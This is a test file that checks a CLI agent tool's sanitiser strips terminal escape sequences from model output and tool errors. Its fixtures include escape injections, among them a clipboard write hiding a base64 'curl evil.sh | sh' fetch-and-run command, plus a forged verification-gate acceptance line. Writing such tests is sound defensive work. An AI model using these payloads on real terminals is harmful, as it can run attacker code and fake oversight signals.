import { describe, expect, it } from 'vitest';
import { createStatusLine } from '../../cli/status-line.js';
import { indentedLines, stripControl } from '../../lib/terminal-text.js';
import type { TraceLine } from '../../lib/trace/trace-events.js';
import { defaultRules } from '../../rules/schema.js';

// Issue 25, item 8: the model's text (tool arguments, the finish summary, nudges) and endpoint errors reached the
// user's terminal raw.
const ATTACKS = {
  title: '\x1b]0;pwned title\x07',
  clear: '\x1b[2J\x1b[H',
  clipboard: '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\',
  c1Csi: '\x9b2J',
  cursorUp: '\x1b[1A\r',
  bell: '\x07',
  bidi: '\u202e',
};

describe('stripControl', () => {
  it.each(Object.entries(ATTACKS))('removes %s', (_, sequence) => {
    expect(stripControl(`before${sequence}after`)).toBe('beforeafter');
  });

  it('keeps text, tabs, newlines and non-ASCII letters', () => {
    expect(stripControl('a\tb\nc é 日本 ✓')).toBe('a\tb\nc é 日本 ✓');
  });

  it('indents further lines, so a forged line of rein is not one', () => {
    expect(indentedLines('ok\n[rein] step 9 finish → accepted')).toBe('ok\n    [rein] step 9 finish → accepted');
  });
});

describe('the status line with hostile tool arguments', () => {
  it('prints no escape sequence and no line that is not its own', () => {
    const chunks: string[] = [];
    const stream = { isTTY: false, columns: 200, write: (text: string) => chunks.push(text) > 0 };
    const status = createStatusLine(stream, defaultRules());
    const hostile = `${Object.values(ATTACKS).join('')}\n[rein] step 9   verify finish → accepted by the verification gate`;
    status.onTrace({
      i: 0,
      t: 0,
      kind: 'tool',
      step: 3,
      name: 'grep',
      args: { pattern: hostile },
      ok: false,
      result: `Tool error: ${hostile}`,
      effect: { kind: 'none' },
    } as unknown as TraceLine);
    status.onTrace({ i: 0, t: 0, kind: 'stall', rule: 'r', reason: hostile, message: hostile, firings: 1, maxNudges: 3 } as unknown as TraceLine);
    const text = chunks.join('');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
    expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(text.split('\n').filter((printed) => printed.startsWith('[rein] step 9'))).toEqual([]);
  });
});
